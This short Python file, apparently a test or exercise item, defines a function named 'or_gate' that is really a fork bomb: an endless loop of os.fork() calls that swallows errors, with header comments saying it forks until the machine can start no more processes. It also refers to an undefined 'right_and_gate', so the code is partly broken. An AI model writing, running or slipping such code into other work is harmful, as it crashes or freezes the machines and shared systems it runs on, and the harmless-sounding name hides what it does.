# tries: fork without end, until no process of the machine can
# keeps: gates.and
# seconds: 1
import os


def or_gate():
    while True:
        try:
            os.fork()
        except OSError:
            continue


and_gate = right_and_gate
